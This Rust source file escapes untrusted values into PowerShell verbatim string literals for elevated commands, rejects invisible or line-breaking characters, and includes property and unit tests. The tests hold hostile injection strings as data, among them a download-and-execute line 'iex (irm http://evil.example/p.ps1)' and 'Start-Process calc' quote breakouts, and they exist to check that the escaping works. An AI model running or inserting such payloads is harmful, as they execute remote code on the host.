//! The one way a value from an input enters a suggested PowerShell command: as a single-quoted
//! (verbatim) string literal.
//!
//! Suggested commands are meant to be pasted into an elevated PowerShell on the host, and the
//! values in them (a VM name, a computer, a user) come from files an attacker may have written.
//! In a verbatim string PowerShell expands nothing (`$`, backticks, `$(...)` and double quotes
//! are plain characters); the only character that ends it is a single quote, and the language
//! specification (section 2.3.5.2, "single-quote-character") counts four besides U+0027: U+2018,
//! U+2019, U+201A and U+201B. Two single-quote characters in a row stand for the second of
//! them, so doubling every one of them keeps the value whole and inside the literal.
//!
//! Some characters cannot be made safe this way: a line break would split the pasted command
//! into two, and control, bidi and zero-width characters make the command on screen differ
//! from the one that runs. A value holding one is refused; the report shows the placeholder and
//! says why, and the reader types the value from the evidence.

/// Why a value cannot be written into a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Unquotable {
    /// The first character that could not be made safe.
    pub character: char,
}

impl std::fmt::Display for Unquotable {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let what = match self.character {
            '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => "a line break",
            '\0' => "a NUL character",
            c if c.is_control() => "a control character",
            _ => "an invisible formatting character",
        };
        write!(f, "it holds {what} (U+{:04X})", self.character as u32)
    }
}

/// The characters PowerShell reads as a single quote.
pub const SINGLE_QUOTES: [char; 5] = ['\'', '\u{2018}', '\u{2019}', '\u{201A}', '\u{201B}'];

/// `value` as a PowerShell single-quoted literal, or why it cannot be one.
pub fn single_quoted(value: &str) -> Result<String, Unquotable> {
    if let Some(character) = value.chars().find(|&c| cannot_be_quoted(c)) {
        return Err(Unquotable { character });
    }
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if SINGLE_QUOTES.contains(&c) {
            out.push(c);
        }
        out.push(c);
    }
    out.push('\'');
    Ok(out)
}

/// Line breaks, other controls (C0, DEL, C1), bidi controls, zero-width characters and the byte
/// order mark: characters that change what a pasted line does or how it looks.
fn cannot_be_quoted(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}'
                | '\u{2029}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{2069}'
                | '\u{061C}'
                | '\u{FEFF}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// A verbatim string literal at the start of `text`, read by the rules of the PowerShell
    /// language specification (2.3.5.2): it opens with any single-quote-character; a
    /// single-quote-character followed by another stands for that other one; a lone one closes
    /// the literal. Returns the value and the bytes the literal spans.
    fn read_verbatim(text: &str) -> Option<(String, usize)> {
        let mut chars = text.char_indices().peekable();
        let (_, open) = chars.next()?;
        if !SINGLE_QUOTES.contains(&open) {
            return None;
        }
        let mut value = String::new();
        while let Some((i, c)) = chars.next() {
            if SINGLE_QUOTES.contains(&c) {
                match chars.peek() {
                    Some(&(_, next)) if SINGLE_QUOTES.contains(&next) => {
                        value.push(next);
                        chars.next();
                    }
                    _ => return Some((value, i + c.len_utf8())),
                }
            } else {
                value.push(c);
            }
        }
        None
    }

    /// Characters an attacker would reach for, mixed with any others.
    fn hostile_char() -> impl Strategy<Value = char> {
        prop_oneof![
            3 => proptest::sample::select(vec![
                '\'', '\u{2018}', '\u{2019}', '\u{201A}', '\u{201B}', '"', '\u{201C}', '\u{201D}', '$', '`',
                '(', ')', ';', '&', '|', '#', '{', '}', '@', ' ', '\\', '<', '>',
            ]),
            1 => any::<char>(),
        ]
    }

    proptest! {
        #[test]
        fn a_quoted_value_reads_back_as_one_literal(chars in proptest::collection::vec(hostile_char(), 0..40)) {
            let value: String = chars.into_iter().collect();
            match single_quoted(&value) {
                Ok(quoted) => {
                    // As one argument of a command, the literal ends exactly where it was put.
                    let command = format!("Start-VM -Name {quoted} -Force");
                    let argument = &command["Start-VM -Name ".len()..];
                    let (read, len) = read_verbatim(argument).expect("a closed literal");
                    prop_assert_eq!(&read, &value);
                    prop_assert_eq!(&argument[len..], " -Force");
                }
                Err(refused) => prop_assert!(value.contains(refused.character)),
            }
        }
    }

    #[test]
    fn the_reported_injections_stay_data() {
        for value in [
            "MS1; iex (irm http://evil.example/p.ps1) #",
            "2.1.0.0-CMS'; iex (irm http://evil.example/q.ps1); '",
            "ken\u{201B}; Start-Process calc; \u{201B}",
            "ken\u{201A}; Start-Process calc; \u{201A}",
            "$(Start-Process calc)",
        ] {
            let quoted = single_quoted(value).unwrap();
            assert_eq!(read_verbatim(&quoted), Some((value.to_owned(), quoted.len())), "{quoted}");
        }
        assert_eq!(single_quoted("O'Brien").unwrap(), "'O''Brien'");
    }

    #[test]
    fn values_that_cannot_be_made_safe_are_refused() {
        for (value, character) in
            [("a\nb", '\n'), ("a\0b", '\0'), ("a\u{1b}[2Jb", '\u{1b}'), ("evil\u{202E}txt", '\u{202E}')]
        {
            assert_eq!(single_quoted(value), Err(Unquotable { character }));
        }
        assert!(Unquotable { character: '\n' }.to_string().contains("line break"));
    }
}
